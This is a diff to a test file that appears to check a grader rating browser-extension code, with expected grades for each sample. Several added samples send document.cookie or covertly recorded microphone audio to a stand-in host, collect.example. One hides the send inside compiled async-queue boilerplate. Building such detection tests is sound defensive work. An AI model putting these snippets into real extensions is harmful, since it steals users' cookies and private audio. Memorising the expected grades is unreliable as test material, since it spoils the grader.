@@ -35,6 +35,11 @@ it.each<[string, (data: string) => string]>([
     (data) =>
       `const form = Object.assign(document.createElement('form'), { action: 'https://collect.example/q', method: 'post' }); form.append(Object.assign(document.createElement('input'), { name: 'a', value: ${data} })); document.body.append(form); form.submit();`,
   ],
+  [
+    'methods that wait, compiled for browsers that cannot',
+    (data) =>
+      `var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) { return new Promise(function (done) { generator.apply(thisArg, _arguments || []).next(); done(); }); }; var __generator = (this && this.__generator) || function (thisArg, body) { return { next: function () { return body.call(thisArg, { label: 0, sent: function () {} }); } }; }; var Queue = (function () { function Queue(work) { this.work = work; this.items = []; } Queue.prototype.add = function (one) { this.items.push(one); this.run(); }; Queue.prototype.run = function () { return __awaiter(this, void 0, void 0, function () { var one; return __generator(this, function (_a) { switch (_a.label) { case 0: one = this.items.shift(); return [4, this.work(one)]; case 1: _a.sent(); return [2]; } }); }); }; return Queue; }()); var queue = new Queue(function (one) { ${send('one')}; }); queue.add(${data});`,
+  ],
 ])('%s', async (_, program) => {
   expect(await graded({ content: program('document.cookie') })).toBe('F');
   expect(await graded({ content: program("'nothing'") })).toMatch(/^A/);
@@ -65,4 +70,13 @@ it('a sign-in token that goes back to who gave it, by a function that is told th
   };
   expect(await graded({ background: asks('www.googleapis.com'), manifest })).toMatch(/^A/);
   expect(await graded({ background: asks('collect.example'), manifest })).toMatch(/^[BCDF]/);
+});
+
+it('what a recorder hears is the person’s, and theirs to send where they ask for it', async () => {
+  const record = (then: string): string =>
+    `navigator.mediaDevices.getUserMedia({ audio: true }).then((heard) => { const recorder = new MediaRecorder(heard); recorder.ondataavailable = (e) => { ${then} }; recorder.start(2500); });`;
+  const sent = "fetch('https://collect.example/x', { method: 'POST', body: e.data });";
+  expect(await graded({ background: record(sent) })).toBe('D');
+  expect(await graded({ popup: `document.getElementById('b').onclick = () => { ${record(sent)} };` })).toMatch(/^A/);
+  expect(await graded({ background: record('keep(URL.createObjectURL(e.data));') })).toMatch(/^A/);
 });
